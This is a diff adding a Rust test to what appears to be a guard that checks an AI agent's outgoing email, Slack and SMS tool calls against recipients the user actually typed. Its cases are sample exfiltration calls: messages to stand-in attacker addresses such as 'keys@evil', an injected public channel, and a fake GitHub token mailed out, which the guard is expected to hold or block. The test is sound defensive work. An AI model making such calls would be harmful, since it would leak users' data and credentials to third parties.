@@ -43,3 +43,39 @@ fn arguments_past_the_walk_limits_count_as_unknown() {
     let pad: Vec<Value> = (0..10_001).map(|_| json!("x")).collect();
     expect(&reply(json!({"to": "sender@vendor.test", "pad": pad, "zz_cc": "attacker@evil.test"})), Confirm);
 }
+
+/// A recipient that is no address, link or number (a channel id, a handle,
+/// an address without a dot in its domain) is a name, which the user did
+/// not give: a trusted address elsewhere in the call does not carry it.
+#[test]
+fn a_recipient_that_is_only_a_name_is_a_target() {
+    const TYPED: &str = "please send the summary to me@corp.example";
+    let typed =
+        |tool: &'static str, args: Value| Case { typed: Some(TYPED), read: super::CLEAN, email: false, tool, args };
+    for (tool, args) in [
+        ("slack_post_message", json!({"channel_id": "C0EVILPUBLIC", "text": "summary (cc me@corp.example)"})),
+        ("send_sms", json!({"to": "attacker", "body": "me@corp.example"})),
+        ("send_email", json!({"to": "me@corp.example", "bcc": "keys@evil"})),
+        ("send_email", json!({"to": "me@corp.example,keys@evil"})),
+        ("send_email", json!({"to": "keys@localhost", "body": "me@corp.example"})),
+    ] {
+        expect(&typed(tool, args), Confirm);
+    }
+    // Carrying a credential there is blocked.
+    expect(
+        &typed(
+            "send_email",
+            json!({"to": "keys@evil", "body": "me@corp.example ghp_aBcDeFgHiJkLmNoPqRsTuVwXyZ0123456789"}),
+        ),
+        inertbox::gate::Decision::Block,
+    );
+    // The user's own channel and address run unattended.
+    let mine = Case {
+        typed: Some("post the summary to #weekly-sync and mail me@corp.example"),
+        read: super::CLEAN,
+        email: false,
+        tool: "slack_post_message",
+        args: json!({"channel": "weekly-sync", "text": "summary"}),
+    };
+    expect(&mine, Allow);
+}
